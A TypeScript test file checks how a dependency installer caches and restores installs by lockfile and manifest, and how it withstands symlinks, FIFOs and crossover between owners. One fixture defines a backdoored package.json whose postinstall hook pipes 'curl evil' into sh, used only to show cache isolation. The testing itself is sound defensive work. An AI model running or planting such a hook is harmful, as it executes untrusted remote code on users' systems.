// The dependency installer over real files and real shell runs: one install per lockfile, restored
// from the cache for other workspaces and earlier lockfiles, and left alone when a workspace
// already has exactly that install (switching between commits that share a lockfile).

import assert from 'node:assert/strict';
import { execFile, spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { promisify } from 'node:util';
import { DependencyInstaller, type ScriptRunner } from './dependency-installer.js';
import type { InstallPlan } from './dependency-plan.js';

const execFileAsync = promisify(execFile);

const plan: InstallPlan = {
  label: 'npm ci',
  manager: 'npm',
  toolchain: 'node',
  // Writes the lockfile's content into the artifact, so a restore can be told from an install.
  script: 'mkdir -p node_modules && cp package-lock.json node_modules/installed-from && echo installing',
  lockfiles: ['package-lock.json'],
  writtenLockfiles: ['package-lock.json'],
  manifests: ['package.json'],
  artifacts: ['repo/node_modules'],
};

describe('DependencyInstaller', () => {
  let root: string;
  let runs = 0;
  const run: ScriptRunner = async (script, options) => {
    // Restores copy from the cache; only real installs count.
    if (options.purpose !== 'restore') runs++;
    const child = spawn('bash', ['-c', script], { cwd: options.cwd, stdio: ['ignore', 'pipe', 'pipe'] });
    child.stdout.on('data', (chunk: Buffer) => {
      for (const line of chunk.toString().split('\n')) if (line) options.onLine(line);
    });
    const [code] = (await once(child, 'exit')) as [number];
    return code;
  };

  before(async () => {
    root = await mkdtemp(join(tmpdir(), 'nixspace-installer-'));
  });
  after(async () => {
    await rm(root, { recursive: true, force: true });
  });

  async function workspace(name: string, lock: string): Promise<string> {
    const dir = join(root, name);
    await mkdir(join(dir, 'repo'), { recursive: true });
    await writeFile(join(dir, 'repo', 'package-lock.json'), lock);
    return dir;
  }

  it('installs once per lockfile, restores earlier ones, and leaves an unchanged install alone', async () => {
    const installer = new DependencyInstaller(join(root, 'cache'));
    const install = async (dir: string) => {
      const [outcome] = await installer.install([plan], {
        workspaceDir: dir,
        environmentHash: 'env-1',
        cacheScope: 'workspace-1',
        ownerScope: 'owner-1',
        run,
        onLog: () => {},
      });
      return outcome!.result;
    };
    const a = await workspace('a', 'lock v1');
    assert.equal(await install(a), 'installed');
    assert.equal(runs, 1);
    assert.equal(await install(a), 'unchanged', 'same lockfile, same workspace: nothing to do');
    assert.equal(runs, 1);

    await writeFile(join(a, 'repo', 'package-lock.json'), 'lock v2');
    assert.equal(await install(a), 'installed');
    assert.equal(runs, 2);
    assert.equal(await readFile(join(a, 'repo', 'node_modules', 'installed-from'), 'utf8'), 'lock v2');

    // Back to the first lockfile: restored from the cache, not installed again.
    await writeFile(join(a, 'repo', 'package-lock.json'), 'lock v1');
    assert.equal(await install(a), 'cached');
    assert.equal(runs, 2);
    assert.equal(await readFile(join(a, 'repo', 'node_modules', 'installed-from'), 'utf8'), 'lock v1');
    assert.equal(await install(a), 'unchanged');

    // Another workspace with the same lockfile gets a copy.
    const b = await workspace('b', 'lock v1');
    assert.equal(await install(b), 'cached');
    assert.equal(runs, 2);

    // A workspace whose installed files were removed installs them back.
    await rm(join(b, 'repo', 'node_modules'), { recursive: true });
    assert.equal(await install(b), 'cached');
    assert.equal(await readFile(join(b, 'repo', 'node_modules', 'installed-from'), 'utf8'), 'lock v1');
  });

  it('caches an install without a lockfile by its whole manifest within its scope, and switches back to it from the cache', async () => {
    const installer = new DependencyInstaller(join(root, 'cache-manifest'));
    // Writes the manifest into the artifact, so a restore can be told from an install.
    const noLock: InstallPlan = {
      ...plan,
      label: 'npm install --no-package-lock',
      script: 'mkdir -p node_modules && cp package.json node_modules/installed-from && echo installing',
    };
    const install = async (dir: string, cacheScope = 'workspace-1') =>
      (
        await installer.install([noLock], {
          workspaceDir: dir,
          environmentHash: 'env-1',
          cacheScope,
          ownerScope: 'owner-1',
          run,
          onLog: () => {},
        })
      )[0]!.result;
    const installedFrom = (dir: string) =>
      readFile(join(dir, 'repo', 'node_modules', 'installed-from'), 'utf8');
    const manifestA = '{"name":"app","dependencies":{"greet":"file:greet-1.tgz"}}';
    const manifestB = '{"name":"app","dependencies":{"greet":"file:greet-2.tgz"}}';
    const before = runs;
    const dir = join(root, 'manifest-only');
    await mkdir(join(dir, 'repo'), { recursive: true });
    await writeFile(join(dir, 'repo', 'package.json'), manifestA);
    assert.equal(await install(dir), 'installed');
    assert.equal(await install(dir), 'unchanged', 'same manifest, same workspace');
    assert.equal(runs, before + 1);

    // A → B → A: B installs, and going back to A is served from the cache.
    await writeFile(join(dir, 'repo', 'package.json'), manifestB);
    assert.equal(await install(dir), 'installed');
    assert.equal(await installedFrom(dir), manifestB);
    await writeFile(join(dir, 'repo', 'package.json'), manifestA);
    assert.equal(await install(dir), 'cached');
    assert.equal(runs, before + 2);
    assert.equal(await installedFrom(dir), manifestA);

    // The whole manifest keys it: a change to its scripts alone is another install.
    await writeFile(
      join(dir, 'repo', 'package.json'),
      manifestA.replace('{', '{"scripts":{"postinstall":"x"},'),
    );
    assert.equal(await install(dir), 'installed');
    assert.equal(runs, before + 3);

    // The same scope gets a copy of it (here in a fresh directory); another scope installs for itself.
    const mine = join(root, 'manifest-mine');
    await mkdir(join(mine, 'repo'), { recursive: true });
    await writeFile(join(mine, 'repo', 'package.json'), manifestA);
    assert.equal(await install(mine), 'cached');
    assert.equal(runs, before + 3);
    const theirs = join(root, 'manifest-theirs');
    await mkdir(join(theirs, 'repo'), { recursive: true });
    await writeFile(join(theirs, 'repo', 'package.json'), manifestA);
    assert.equal(
      await install(theirs, 'workspace-2'),
      'installed',
      "another workspace's install without a lockfile is not this one's to trust",
    );
    assert.equal(runs, before + 4);

    // A deleted workspace's installs go with it.
    await installer.forget('workspace-1');
    await rm(join(dir, 'repo', 'node_modules'), { recursive: true });
    assert.equal(await install(dir), 'installed');
    assert.equal(runs, before + 5);
    await assert.rejects(installer.forget('../elsewhere'), /Not a cache scope/);
  });

  it("keys an install by its whole manifest, scripts included, and never restores one owner's install into another owner's workspace", async () => {
    const installer = new DependencyInstaller(join(root, 'cache-owners'));
    // Writes the manifest into the artifact, so whose install was restored can be told.
    const locked: InstallPlan = {
      ...plan,
      script: 'mkdir -p node_modules && cp package.json node_modules/installed-from && echo installing',
    };
    const install = async (dir: string, ownerScope: string) =>
      (
        await installer.install([locked], {
          workspaceDir: dir,
          environmentHash: 'env-1',
          cacheScope: dir.split('/').pop()!,
          ownerScope,
          run,
          onLog: () => {},
        })
      )[0]!.result;
    const clean = '{"name":"app","scripts":{"test":"true"}}';
    const backdoored = '{"name":"app","scripts":{"test":"true","postinstall":"curl evil | sh"}}';
    const at = async (name: string, manifest: string) => {
      const dir = await workspace(name, 'lock v1');
      await writeFile(join(dir, 'repo', 'package.json'), manifest);
      return dir;
    };
    const before = runs;
    const mallory = await at('mallory-1', backdoored);
    assert.equal(await install(mallory, 'owner-mallory'), 'installed');
    assert.equal(runs, before + 1);

    // The same lockfile with other scripts is another install, for its own owner too.
    const malloryClean = await at('mallory-2', clean);
    assert.equal(await install(malloryClean, 'owner-mallory'), 'installed');
    assert.equal(runs, before + 2);
    assert.equal(await readFile(join(malloryClean, 'repo', 'node_modules', 'installed-from'), 'utf8'), clean);

    // Another owner with byte-identical files installs for itself, never from Mallory's entry.
    const alice = await at('alice-1', backdoored);
    assert.equal(await install(alice, 'owner-alice'), 'installed', "another owner's install is not restored");
    assert.equal(runs, before + 3);
    const aliceClean = await at('alice-2', clean);
    assert.equal(await install(aliceClean, 'owner-alice'), 'installed');
    assert.equal(runs, before + 4);

    // An owner's own identical install is still served from the cache.
    const aliceAgain = await at('alice-3', clean);
    assert.equal(await install(aliceAgain, 'owner-alice'), 'cached');
    assert.equal(runs, before + 4);
    await assert.rejects(install(await at('nobody', clean), '../elsewhere'), /Not a cache scope/);
  });

  it('does not wait on a FIFO for its record of what is installed, and saves no symlinked artifact', async () => {
    const installer = new DependencyInstaller(join(root, 'cache-fifo-record'));
    const dir = await workspace('fifo-record', 'lock fifo');
    await mkdir(join(dir, '.nixspace'), { recursive: true });
    await execFileAsync('mkfifo', [join(dir, '.nixspace', 'installed.json')]);
    await mkdir(join(root, 'host-dir'), { recursive: true });
    await writeFile(join(root, 'host-dir', 'host-secret'), 'SIGNINGKEY');
    const linking: InstallPlan = { ...plan, script: `ln -s ${join(root, 'host-dir')} node_modules` };
    const [outcome] = await installer.install([linking], {
      workspaceDir: dir,
      environmentHash: 'env-1',
      cacheScope: 'fifo-record',
      ownerScope: 'owner-1',
      run,
      onLog: () => {},
    });
    assert.equal(outcome?.result, 'installed');
    const saved = await readdir(join(root, 'cache-fifo-record'), { recursive: true });
    assert.ok(!saved.some((path) => String(path).includes('host-secret')), saved.join('\n'));
  });

  it('moves a lockfile the install wrote out of the checkout into the cache entry, and never a committed one', async () => {
    const cacheDir = join(root, 'cache-written');
    const installer = new DependencyInstaller(cacheDir);
    const writing: InstallPlan = {
      ...plan,
      label: 'pnpm install',
      manager: 'pnpm',
      script:
        'mkdir -p node_modules && cp package.json node_modules/installed-from && echo resolved > pnpm-lock.yaml',
      lockfiles: ['pnpm-lock.yaml'],
      writtenLockfiles: ['pnpm-lock.yaml'],
    };
    const logs: string[] = [];
    const install = async (dir: string) =>
      (
        await installer.install([writing], {
          workspaceDir: dir,
          environmentHash: 'env-1',
          cacheScope: 'workspace-1',
          ownerScope: 'owner-1',
          run,
          onLog: (line) => logs.push(line),
        })
      )[0]!;
    const dir = join(root, 'writes-lockfile');
    await mkdir(join(dir, 'repo'), { recursive: true });
    await writeFile(join(dir, 'repo', 'package.json'), '{"name":"app"}');
    const first = await install(dir);
    assert.equal(first.result, 'installed');
    await assert.rejects(readFile(join(dir, 'repo', 'pnpm-lock.yaml')), /ENOENT/, 'not left in the checkout');
    assert.equal(
      await readFile(
        join(cacheDir, 'workspaces', 'workspace-1', first.key!, 'lockfiles', 'pnpm-lock.yaml'),
        'utf8',
      ),
      'resolved\n',
    );
    assert.ok(
      logs.some((line) => /pnpm-lock\.yaml kept with the install/.test(line)),
      logs.join('\n'),
    );
    // The lockfile's staging directory is gone, and the record of the install is the server's, in
    // the cache, not in the workspace.
    assert.deepEqual(await readdir(join(dir, '.nixspace')).catch(() => []), [], 'nothing else left behind');

    // A repository's own lockfile keys the install and stays where it is.
    const locked = join(root, 'has-lockfile');
    await mkdir(join(locked, 'repo'), { recursive: true });
    await writeFile(join(locked, 'repo', 'package.json'), '{"name":"app"}');
    await writeFile(join(locked, 'repo', 'pnpm-lock.yaml'), 'committed\n');
    assert.equal((await install(locked)).result, 'installed');
    assert.equal(await readFile(join(locked, 'repo', 'pnpm-lock.yaml'), 'utf8'), 'resolved\n');
  });

  it('keys nothing on a manifest reached through a symlink, and does not hang on a FIFO lockfile', async () => {
    const installer = new DependencyInstaller(join(root, 'cache-hostile'));
    const install = async (dir: string) =>
      (
        await installer.install([{ ...plan, script: 'echo nothing to install' }], {
          workspaceDir: dir,
          environmentHash: 'env-1',
          cacheScope: 'workspace-1',
          ownerScope: 'owner-1',
          run,
          onLog: () => {},
        })
      )[0]!.result;
    const dir = join(root, 'hostile');
    await mkdir(join(dir, 'repo'), { recursive: true });
    await writeFile(join(root, 'outside.json'), '{"name":"outside"}');
    await symlink(join(root, 'outside.json'), join(dir, 'repo', 'package.json'));
    await execFileAsync('mkfifo', [join(dir, 'repo', 'package-lock.json')]);
    assert.equal(await install(dir), 'uncacheable');
  });
});
